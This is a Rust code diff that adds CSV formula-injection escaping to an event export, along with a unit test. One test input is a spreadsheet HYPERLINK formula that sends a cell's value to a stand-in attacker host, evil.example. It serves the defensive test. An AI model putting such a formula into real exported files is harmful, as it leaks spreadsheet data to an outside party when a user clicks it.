@@ -143,8 +143,8 @@ pub fn write_events(
         for e in &page {
             match &mut sink {
                 Sink::Csv(c) => c.write_record([
-                    e.local_id.as_str(),
-                    e.pseudonym.as_str(),
+                    &*spreadsheet_safe(&e.local_id),
+                    &*spreadsheet_safe(&e.pseudonym),
                     &obtained_at(e),
                     &e.seq.to_string(),
                 ])?,
@@ -164,6 +164,20 @@ pub fn write_events(
         Sink::Json(j) => j.end()?,
     }
     Ok(summary)
+}
+
+/// A CSV cell as a spreadsheet will not evaluate it. A cell starting with `=`, `+`, `-` or
+/// `@` is a formula to Excel and LibreOffice (`=HYPERLINK(...)` sends data elsewhere when
+/// clicked), and a leading tab or carriage return can hide such a start; pseudonyms come from
+/// the dispatcher, local ids from the site's own input. Such a cell gets a leading `'`, which
+/// spreadsheets show as text (the OWASP advice for CSV injection). Other cells, and every cell
+/// of the JSON export, are written as they are.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 enum Sink<'w> {
@@ -198,5 +212,27 @@ impl<'w> JsonArray<'w> {
 
     fn end(self) -> std::io::Result<()> {
         self.w.write_all(if self.first { b"]\n" } else { b"\n]\n" })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_neutralised_and_others_kept() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for plain in ["mii_6348Q7", "case-00001", "0815", "", "a=b"] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
     }
 }
